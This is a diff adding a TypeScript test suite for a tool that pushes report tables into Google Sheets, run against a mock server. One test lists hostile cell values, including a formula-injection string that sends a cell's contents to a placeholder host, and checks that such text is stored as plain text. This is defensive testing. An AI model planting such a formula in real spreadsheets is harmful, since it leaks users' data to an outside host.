@@ -1,0 +1,261 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
+import { createSheetsClient, type PushError, readServiceAccount } from '../../../pipeline/sheets/client.ts';
+import { pushTable, type SheetPlace } from '../../../pipeline/sheets/push-table.ts';
+import type { SheetTable } from '../../../pipeline/sheets/tables.ts';
+import { formulasOf, newTab, type Tab, tableOf } from './sheets-grid.ts';
+import { client_email, errorBody, private_key, type SheetsServer, startSheetsServer } from './sheets-server.ts';
+
+const spreadsheet_id = 'invented-spreadsheet-0001';
+const signal = AbortSignal.timeout(30_000);
+
+let server: SheetsServer;
+let tabs: Tab[];
+beforeEach(async () => {
+  server = await startSheetsServer();
+  tabs = server.share(spreadsheet_id);
+});
+afterEach(() => server.close());
+
+/** An invented table of one report with as many rows as names. */
+function table(report_id: string, ...names: string[]): SheetTable {
+  return {
+    columns: ['name', 'report_id', 'followers', 'seen (UTC)'],
+    rows: names.map((name, index) => [name, report_id, index + 10, 46_024.5]),
+    key: { column: 'report_id', value: report_id },
+    date_columns: ['seen (UTC)'],
+  };
+}
+
+const place = (mode: SheetPlace['mode'], sheet_name = 'Report'): SheetPlace => ({ spreadsheet_id, sheet_name, mode });
+const push = (where: SheetPlace, what: SheetTable) => pushTable(server.client, where, what, signal);
+const tabNamed = (title: string) => tabs.find((tab) => tab.title === title) ?? expect.fail(`no tab ${title}`);
+const contents = (title = 'Report') => tableOf(tabNamed(title));
+const problem = (pushed: Promise<unknown>) =>
+  pushed.then(
+    () => expect.fail('the push succeeded'),
+    ({ problem, message }: PushError) => ({ problem, message }),
+  );
+
+describe.each(['append', 'replace'] as const)('in %s mode', (mode) => {
+  test('a missing tab is made, with its header frozen', async () => {
+    expect(await push(place(mode), table('r1', 'a', 'b'))).toBe(2);
+    expect(tabNamed('Report').frozen_rows).toBe(1);
+    expect(contents()).toEqual([
+      ['name', 'report_id', 'followers', 'seen (UTC)'],
+      ['a', 'r1', 10, 46_024.5],
+      ['b', 'r1', 11, 46_024.5],
+    ]);
+  });
+
+  test('text never becomes a formula, a number, a date or a boolean', async () => {
+    const hostile = ['=IMPORTXML("http://x.example/"&A1)', '+1', '-2', '@a', '0012', '1/2', '10%', 'TRUE', "'quoted"];
+    await push(place(mode), table('7350000000000000001', ...hostile));
+    expect(formulasOf(tabNamed('Report'))).toEqual([]);
+    expect(
+      contents()
+        .slice(1)
+        .map((row) => row[0]),
+    ).toEqual(hostile);
+    expect(contents()[1]?.[1]).toBe('7350000000000000001');
+  });
+
+  test('numbers are numbers, and moments are shown as such', async () => {
+    await push(place(mode), table('r1', 'a'));
+    const types = [1, 2, 3, 4].map((column) => tabNamed('Report').cells.get(`2,${column}`)?.type);
+    expect(types).toEqual(['text', 'text', 'number', 'number']);
+    expect([...tabNamed('Report').formats]).toEqual([[3, 'yyyy-mm-dd hh:mm']]);
+  });
+
+  test('an unknown value is an empty cell', async () => {
+    const one = table('r1', 'a', 'b');
+    one.rows[0] = ['a', 'r1', '', ''];
+    await push(place(mode), one);
+    expect(contents()[1]).toEqual(['a', 'r1']);
+  });
+
+  test('a tab that is too small grows, and its name may hold anything', async () => {
+    const small = newTab(7, "Anna's 'week' 1:2!", 2, 2);
+    tabs.push(small);
+    await push(place(mode, small.title), table('r1', 'a', 'b', 'c', 'd'));
+    expect(contents(small.title)).toHaveLength(5);
+    expect(small.columns).toBe(4);
+  });
+
+  test('a push whose answer is lost is the same push when it is tried again', async () => {
+    server.mishaps.push({ path: /:append$|values:batchUpdate$/, status: 0, lost: true });
+    expect((await problem(push(place(mode), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
+    await push(place(mode), table('r1', 'a'));
+    expect(contents()).toHaveLength(2);
+  });
+
+  test.each([
+    [429, 'RESOURCE_EXHAUSTED'],
+    [500, 'INTERNAL'],
+    [503, 'UNAVAILABLE'],
+  ])('HTTP %d is to be tried again', async (status, word) => {
+    server.mishaps.push({ path: /spreadsheets/, status, body: errorBody(status, `invented ${word}`) });
+    expect(await problem(push(place(mode), table('r1', 'a')))).toEqual({
+      problem: 'TRY_AGAIN',
+      message: `Google asks to try again later: invented ${word}`,
+    });
+    expect(server.requests.filter((line) => line.includes('spreadsheets'))).toHaveLength(1);
+  });
+});
+
+describe('in append mode', () => {
+  test('the next table goes below, without a second header', async () => {
+    await push(place('append'), table('r1', 'a', 'b'));
+    await push(place('append'), table('r2', 'c'));
+    expect(contents().map((row) => row.slice(0, 2))).toEqual([
+      ['name', 'report_id'],
+      ['a', 'r1'],
+      ['b', 'r1'],
+      ['c', 'r2'],
+    ]);
+  });
+
+  test('a table that the sheet holds already is not written again', async () => {
+    await push(place('append'), table('r1', 'a'));
+    await push(place('append'), table('r2', 'b'));
+    expect(await push(place('append'), table('r1', 'a'))).toBe(0);
+    expect(contents()).toHaveLength(3);
+  });
+
+  test('what stands below the table is moved down, not overwritten', async () => {
+    await push(place('append'), table('r1', 'a'));
+    tabNamed('Report').cells.set('4,1', { type: 'text', value: 'a note of mine' });
+    await push(place('append'), table('r2', 'b', 'c'));
+    expect(contents().map((row) => row[0])).toEqual(['name', 'a', 'b', 'c', undefined, 'a note of mine']);
+  });
+
+  test('columns of the person to the right of the table stay', async () => {
+    await push(place('append'), table('r1', 'a'));
+    tabNamed('Report').columns = 5;
+    tabNamed('Report').cells.set('1,5', { type: 'text', value: 'my column' });
+    expect(await push(place('append'), table('r2', 'b'))).toBe(1);
+    expect(contents()[0]?.[4]).toBe('my column');
+  });
+
+  test('a tab that holds something else is left alone', async () => {
+    tabNamed('Sheet1').cells.set('1,1', { type: 'text', value: 'my accounts' });
+    expect((await problem(push(place('append', 'Sheet1'), table('r1', 'a')))).problem).toBe('OTHER_TABLE');
+    expect(contents('Sheet1')).toEqual([['my accounts']]);
+  });
+});
+
+describe('in replace mode', () => {
+  test('the tab holds the table and nothing else', async () => {
+    await push(place('replace'), table('r1', 'a', 'b', 'c'));
+    tabNamed('Report').columns = 6;
+    tabNamed('Report').cells.set('2,6', { type: 'text', value: 'beside' });
+    tabNamed('Report').cells.set('9,1', { type: 'text', value: 'below' });
+    await push(place('replace'), table('r2', 'd'));
+    expect(contents()).toEqual([
+      ['name', 'report_id', 'followers', 'seen (UTC)'],
+      ['d', 'r2', 10, 46_024.5],
+    ]);
+  });
+
+  test('a failure half way leaves the new table and not an empty sheet', async () => {
+    await push(place('replace'), table('r1', 'a', 'b'));
+    server.mishaps.push({ path: /batchClear$/, status: 429 });
+    await problem(push(place('replace'), table('r2', 'c')));
+    expect(contents().map((row) => row[0])).toEqual(['name', 'c', 'b']);
+    await push(place('replace'), table('r2', 'c'));
+    expect(contents().map((row) => row[0])).toEqual(['name', 'c']);
+  });
+});
+
+describe('what a person has to put right', () => {
+  test('a spreadsheet that is not shared: with whom to share it', async () => {
+    server.hidden.add(spreadsheet_id);
+    expect(await problem(push(place('append'), table('r1', 'a')))).toEqual({
+      problem: 'NOT_SHARED',
+      message: `Share the spreadsheet with ${client_email} as an editor.`,
+    });
+  });
+
+  test('a spreadsheet that does not exist', async () => {
+    const elsewhere = { ...place('append'), spreadsheet_id: 'invented-spreadsheet-9999' };
+    expect((await problem(push(elsewhere, table('r1', 'a')))).problem).toBe('SHEET_NOT_FOUND');
+  });
+
+  test('the API is switched off in the project', async () => {
+    const body = errorBody(403, 'Google Sheets API has not been used in project 1', 'SERVICE_DISABLED');
+    server.mishaps.push({ path: /spreadsheets/, status: 403, body });
+    expect((await problem(push(place('append'), table('r1', 'a')))).problem).toBe('NOT_CONFIGURED');
+  });
+
+  test('a protected tab: what Google says', async () => {
+    const said = 'You are trying to edit a protected cell or object.';
+    server.mishaps.push({ path: /:append$/, status: 400, body: errorBody(400, said) });
+    expect(await problem(push(place('append'), table('r1', 'a')))).toEqual({
+      problem: 'REFUSED',
+      message: `Google refused the table: ${said}`,
+    });
+  });
+
+  test('a key that Google does not accept', async () => {
+    server.mishaps.push({ path: /^\/token$/, status: 400, body: { error: 'invalid_grant', error_description: 'no' } });
+    const { problem: what, message } = await problem(push(place('append'), table('r1', 'a')));
+    expect([what, message]).toEqual(['NOT_CONFIGURED', expect.stringContaining('invalid_grant')]);
+  });
+});
+
+test('signs in once and asks one attempt of each method', async () => {
+  await push(place('append'), table('r1', 'a'));
+  await push(place('append'), table('r2', 'a'));
+  expect(server.requests.filter((line) => line === 'POST /token')).toHaveLength(1);
+});
+
+test('a token endpoint that is down is asked once a push', async () => {
+  server.mishaps.push({ path: /^\/token$/, status: 503 });
+  expect((await problem(push(place('append'), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
+  expect(server.requests).toEqual(['POST /token']);
+});
+
+test('an error holds neither the key nor the token', async () => {
+  server.hidden.add(spreadsheet_id);
+  const error = await push(place('append'), table('r1', 'a')).catch((thrown: unknown) => thrown);
+  const { inspect } = await import('node:util');
+  expect(inspect(error, { depth: 10, showHidden: true })).not.toMatch(/ya29|PRIVATE KEY|Bearer/);
+});
+
+test('a push stops when its time is over', async () => {
+  const fetcher = () => expect.fail('nothing is sent');
+  const client = createSheetsClient({ client_email, private_key }, fetcher);
+  await expect(pushTable(client, place('append'), table('r1', 'a'), AbortSignal.abort())).rejects.toThrow();
+});
+
+describe('the credentials file', () => {
+  const written = async (content: string) => {
+    const folder = await mkdtemp(join(tmpdir(), 'tidemark-account-'));
+    onTestFinished(() => rm(folder, { recursive: true }));
+    const path = join(folder, 'account.json');
+    await writeFile(path, content);
+    return path;
+  };
+
+  test('is read as Google gives it', async () => {
+    const path = await written(JSON.stringify({ type: 'service_account', client_email, private_key, token_uri: 'x' }));
+    expect(readServiceAccount(path)).toEqual({ client_email, private_key });
+  });
+
+  test.each([
+    ['no JSON', '{', /cannot be read: it is not JSON/],
+    ['no object', '[]', /no key file of a service account/],
+    ['no key', JSON.stringify({ client_email }), /: private_key$/],
+    ['a broken key', JSON.stringify({ client_email, private_key: 'secret PRIVATE KEY' }), /: private_key$/],
+  ])('%s: says what is wrong and not what is in it', async (_, content, message) => {
+    const path = await written(content);
+    expect(() => readServiceAccount(path)).toThrow(message);
+    expect(() => readServiceAccount(path)).not.toThrow(/secret/);
+  });
+
+  test('a missing one is named', () => {
+    expect(() => readServiceAccount('/nowhere/account.json')).toThrow(/\/nowhere\/account.json cannot be read: ENOENT/);
+  });
+});
